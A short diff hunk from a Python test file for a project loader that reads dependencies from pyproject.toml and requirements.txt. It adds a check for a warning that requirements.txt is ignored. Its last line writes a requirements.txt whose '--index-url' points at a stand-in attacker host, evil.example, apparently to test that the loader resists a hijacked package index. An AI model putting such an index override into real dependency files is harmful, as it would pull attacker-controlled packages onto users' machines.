@@ -236,6 +236,8 @@ def test_a_folders_pyproject_dependencies_travel_with_it(tmp_path):
     project = load_project(tmp_path)
     assert project.requirements == ["jinja2>=3"]
     assert any("requires-python" in w for w in project.warnings)
+    # Said, not silent: a requirement listed only there would be missing at run time.
+    assert any("requirements.txt is ignored" in w for w in project.warnings), project.warnings
     (tmp_path / "pyproject.toml").write_text('[tool.ruff]\nline-length = 100\n')
     assert load_project(tmp_path).requirements == ["ignored-when-pyproject-lists-them"]
     (tmp_path / "requirements.txt").write_text("--index-url https://evil.example/simple\n")
